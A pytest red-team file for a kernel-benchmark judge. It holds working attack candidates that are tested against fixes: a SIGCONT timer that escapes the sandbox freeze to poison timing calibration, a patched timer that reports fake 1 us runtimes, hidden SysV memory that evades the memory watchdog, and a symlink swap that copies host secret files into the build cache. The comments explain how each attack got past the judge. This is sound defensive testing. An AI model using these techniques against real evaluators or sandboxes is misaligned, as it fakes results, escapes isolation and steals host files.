"""Red team, round 5: the freeze, the memory watchdog, the build cache's copy.

Each test asserts the verdict a sound judge gives the attack (and, where it matters, that the next honest
evaluation on the same Evaluator is judged as on a fresh one). All four got through when this pass was made
(session 13) and are stopped since; each comment says how it got through and what stops it now.
"""

from __future__ import annotations

import shutil
import tempfile
import uuid
from pathlib import Path

import pytest
from device import DEVICE
from test_judge_isolation import CHECK, GELU, TIMED, cand, honest_after, next_after_poison
from test_redteam_round4 import FIND_RUNNER, GELU_FORWARD

from kb_gym import Evaluator, Problem


@pytest.fixture(scope="module")
def ev():
    with Evaluator(DEVICE, results_path=False, baseline_cache=False) as e:
        yield e


def _fresh_gelu(tag: str, rows: int = 64) -> Problem:
    """GELU under code of its own (a calibration key no earlier evaluation filled), on ``rows`` x 1024 inputs."""
    code = GELU.code.replace("torch.randn(64, 256)", f"torch.randn({rows}, 1024)")
    return Problem(id=41, name=f"41_GELU_{tag}", level=1, code=code + f"\n# round 5: {tag} {uuid.uuid4().hex}\n")


# --- 1. a process the freeze cannot stop: a timer that sends it SIGCONT -------------------------------------
#
# RunnerProcess.frozen SIGSTOPs the runner's tree once (sandbox.freeze_tree) and then checks each process until
# it has seen every thread stopped or asleep once (sandbox.unstopped); a process that passed is never looked at
# again. A SIGCONT resumes a stopped process whenever it is generated, whoever generates it, and a POSIX timer
# (timer_create with SIGEV_SIGNAL, sigev_signo = SIGCONT) has the kernel generate one every 0.5 ms, so the
# process is stopped for at most 0.5 ms. Children of the runner set such a timer, sleep while the judge checks
# the freeze (the runner, PID 1 of their namespace, shows "T" in their /proc), then burn the CPU for as long as
# the runner stays stopped: that is, exactly while the spare calibrates the envelope and while the baseline
# runs. Round 2's calibration poisoning is back: on GELU over 512 x 1024 (outputs through the memfd, ~4.4 ms of
# honest overhead a call) the spare calibrated 8.6-22 ms of overhead and a tolerance of 8.5-12 ms instead of 4.4
# and 2, so a forward that sleeps 4 ms reports 1 us (round 4's lie) uncounted: ~300x, no side_stream. (On 64 x
# 256 the calls are short enough that the woken judge and spare still win the CPU: overhead unchanged.)
# Stopped since: RunnerProcess.frozen reads the tree's CPU use (per-thread schedstat, per-process ticks) and its
# processes when the freeze begins and ends (sandbox.tree_usage); a tree that ran meanwhile is the candidate's
# runtime_error, and nothing measured beside it (the calibration) is kept.

UNFREEZABLE = '''
import ctypes, signal
_libc = ctypes.CDLL(None, use_errno=True)


class _SigEvent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_char * 48)]


class _Timespec(ctypes.Structure):
    _fields_ = [("s", ctypes.c_long), ("ns", ctypes.c_long)]


class _ITimerspec(ctypes.Structure):
    _fields_ = [("interval", _Timespec), ("value", _Timespec)]


def _unfreezable(period_ns=500_000):
    """The kernel sends this process SIGCONT every period: a SIGSTOP holds it that long at most."""
    signal.signal(signal.SIGCONT, lambda *a: None)  # handled, not ignored: the timer keeps firing
    timer = ctypes.c_void_p()
    _libc.timer_create(1, ctypes.byref(_SigEvent(None, signal.SIGCONT, 0)), ctypes.byref(timer))
    every = _Timespec(0, period_ns)
    _libc.timer_settime(timer, 0, ctypes.byref(_ITimerspec(every, every)), None)


def _runner_stopped():
    try:
        with open("/proc/1/stat", "rb") as fh:
            return fh.read().rsplit(b")", 1)[1].split()[0] == b"T"
    except OSError:
        return False
'''

BURNERS = UNFREEZABLE + '''

def _burn_while_the_judge_measures():
    _unfreezable()
    while True:
        if not _runner_stopped():
            time.sleep(0.001)
            continue
        time.sleep(0.03)  # asleep while the judge checks that the tree stopped
        while _runner_stopped():
            end = time.perf_counter() + 0.002
            while time.perf_counter() < end:
                pass


if os.getpid() == 1:  # the runner, not a process the judge imports the module in
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()  # a scheduler group of its own
            try:
                _burn_while_the_judge_measures()
            finally:
                os._exit(0)
'''

_LIE = '''
_rm = sys.modules["kb_gym.worker.runner"]
_real = _rm.timed_call
def _lie(fn, inputs, device, flusher, *a, **k):
    return _real(fn, inputs, device, flusher, *a, **k)._replace(ms=1e-3, host_ms=1e-3)
_rm.timed_call = _lie
'''

POISON_AND_LIE = cand(FIND_RUNNER + BURNERS + _LIE, "time.sleep(0.004)\n" + GELU_FORWARD)
POISON_ONLY = cand(FIND_RUNNER + BURNERS)


def test_a_process_resumed_by_its_own_sigcont_timer_does_not_escape_the_freeze(ev):
    r = ev.evaluate(_fresh_gelu("sigcont", 512), POISON_AND_LIE, config=TIMED)
    honest_after(ev, TIMED)
    if r.status == "runtime_error":  # refused as unstoppable, or caught running while held: stopped
        assert "did not stop" in r.error or "ran while the judge held them stopped" in r.error, r.error
        return
    assert r.status == "correct", (r.status, r.error)
    assert "side_stream" in r.flags or r.speedup < 1.0, (r.speedup, r.flags, r.correctness.get("envelope"))


def test_a_calibration_poisoned_through_a_sigcont_timer_does_not_judge_the_next(ev):
    # Poisoned (before the held-stopped check): 8.6-22 ms of overhead and 7-20 of tolerance, against an honest 4.4
    # and 2 on a quiet machine; the size alone does not separate the two on a loaded one (next_after_poison).
    problem = _fresh_gelu("sigcont_next", 512)
    next_after_poison(ev, problem, ev.evaluate(problem, POISON_ONLY, config=TIMED), TIMED)


# --- 2. memory in System V segments that no process has attached ---------------------------------------------
#
# host_memory.tree_memory_bytes counts a SysV segment while a process of the tree maps it ("/SYSV..." in its
# maps). A segment attached, filled and detached again keeps its pages (no IPC_RMID: it lives as long as the
# runner's IPC namespace), in no map, descriptor or RSS. The IPC namespace's shmmax/shmall are the kernel's
# defaults (practically unlimited), and unlike the private /dev/shm nothing caps it at 64 MB: 2.1 GB in ten
# segments, each mapped only while it is filled, stay under a 2 GB limit that the same bytes in a bytes object
# exceed. On a host the stash is bounded only by RAM. Stopped since: a runner in an IPC namespace of its own sets
# that namespace's shmmax and shmall to 64 MB before it drops its capabilities (process.limit_sysv_ipc), the
# private /dev/shm's cap; here in 60 MB segments, under shmmax, so that shmall is what refuses the second.

SYSV_STASH = cand('''
import ctypes, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for _k in range(35):
    _id = _libc.shmget(0, 60 << 20, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    if _id < 0:
        raise RuntimeError(f"shmget refused segment {_k} (errno {ctypes.get_errno()})")
    _p = _libc.shmat(_id, None, 0)
    if _libc.madvise(_p, 60 << 20, 23) != 0:  # MADV_POPULATE_WRITE, or touch every page
        ctypes.memset(_p, 1, 60 << 20)
    _libc.shmdt(_p)  # mapped by nobody from here on; the segment and its pages stay
time.sleep(1.0)  # several of the watchdog's 0.25 s polls
''')


def test_sysv_memory_control_trips_the_limit(ev):
    """The control: the same 2.1 GB as plain memory is over the 2 GB limit here (else the next test proves
    nothing)."""
    control = ev.evaluate(GELU, cand("import time\n_held = [bytes(210 << 20) + b'x' for _ in range(10)]\n"
                                     "time.sleep(1.0)\n"), config=CHECK.replace(memory_limit_mb=2000))
    assert control.status == "crash" and "memory" in (control.error or ""), (control.status, control.error)


def test_memory_in_detached_sysv_segments_counts_against_the_memory_limit(ev):
    r = ev.evaluate(GELU, SYSV_STASH, config=CHECK.replace(memory_limit_mb=2000))
    honest_after(ev)
    if r.worker.get("sysv_shm_mb"):  # capped in the runner's own IPC namespace: the second segment is refused
        assert "shmget refused segment 1 " in (r.error or "") and r.status != "correct", (r.status, r.error)
    else:  # no IPC namespace of its own here: the watchdog would have to see it
        assert r.status == "crash" and "memory" in (r.error or ""), (r.status, r.error)


# --- 3. the build cache's copy, with a process the freeze does not hold --------------------------------------
#
# build_cache.keep copies the runner's build folder "with the runner and all its processes stopped"
# (frozen(asleep_is_stopped=False)), opening each file with O_NOFOLLOW: only the last component of a path is
# not followed. A child with the SIGCONT timer stops itself over and over until the judge has seen it stopped,
# then, while the judge copies a 400 MB file of ext/z, renames ext/z away and puts a link to a host folder in
# its place. The judge opens ext/z/secret_NN of the names it listed through the link: the host's file, copied
# into the cache entry of this source. The next runner of the same source gets it restored and returns it in
# its error text. (Round 2's swap of the files themselves is stopped by O_NOFOLLOW; the folder above was not.)
# Stopped since: the copy walks folders by descriptor (os.fwalk) and opens files relative to them, so a swapped
# folder is never followed; and a tree that ran during the copy (frozen's CPU reading) has its entry dropped.

def _swap_during_keep(secret_dir: str) -> str:
    return cand(UNFREEZABLE + f'''
import os, time
_ext = os.environ["TORCH_EXTENSIONS_DIR"]
_z = os.path.join(_ext, "z")
if os.path.isdir(_z):  # the second evaluation: what the judge restored
    raise RuntimeError("restored: " + "|".join(open(os.path.join(_z, n)).read(80)
                                               for n in sorted(os.listdir(_z)) if n.startswith("secret")))
os.makedirs(_z)
for _i in range(32):
    with open(os.path.join(_z, "secret_%02d" % _i), "w") as _fh:
        _fh.write("decoy")
_big = os.path.join(_z, "big")
with open(_big, "wb") as _fh:
    _fh.truncate(400 << 20)  # sparse here; the judge's copy writes it out: hundreds of ms
_unread = os.stat(_big).st_atime_ns
_link = os.path.join(os.environ["TMPDIR"], "link")
os.symlink("{secret_dir}", _link)


def _swap():
    _unfreezable()
    while not _runner_stopped():  # the judge freezes the runner to keep its build
        time.sleep(0.0002)
    t0 = time.monotonic()
    while os.stat(_big).st_atime_ns == _unread and time.monotonic() - t0 < 0.06:
        # stopped whenever the judge looks, until its copy reads "big" (relatime: the first read of a file
        # written since moves its atime; the copy takes ~0.2 s) or 60 ms have passed
        os.kill(os.getpid(), signal.SIGSTOP)
    os.rename(_z, _z + "_old")
    os.rename(_link, _z)


if os.getpid() == 1 and os.fork() == 0:
    try:
        _swap()
    finally:
        os._exit(0)
''')


def test_the_build_cache_copies_nothing_through_a_folder_swapped_for_a_link(monkeypatch, tmp_path):
    secret_dir = Path(tempfile.mkdtemp(prefix="kb_gym_rt5_secret_"))
    secret = f"kb-secret-{uuid.uuid4().hex}"
    for i in range(32):
        (secret_dir / f"secret_{i:02d}").write_text(secret)
    (secret_dir / "big").write_text("")  # the judge's copystat of "big" looks it up through the link too
    cache = tmp_path / "extensions"
    monkeypatch.setenv("KB_GYM_EXTENSIONS_DIR", str(cache))
    source = _swap_during_keep(str(secret_dir))
    try:
        with Evaluator(DEVICE, results_path=False, baseline_cache=False) as fresh:
            first = fresh.evaluate(GELU, source, config=CHECK)
            copied = [p.name for p in cache.rglob("secret_*") if p.is_file() and secret in p.read_text()]
            second = fresh.evaluate(GELU, source, config=CHECK)
            honest_after(fresh)
    finally:
        shutil.rmtree(secret_dir, ignore_errors=True)
        shutil.rmtree(cache, ignore_errors=True)
    # correct, or caught running during the copy
    assert first.status in ("correct", "runtime_error"), (first.status, first.error)
    assert not copied, f"the judge copied host files into the cache: {copied}"
    assert secret not in (second.error or ""), second.error
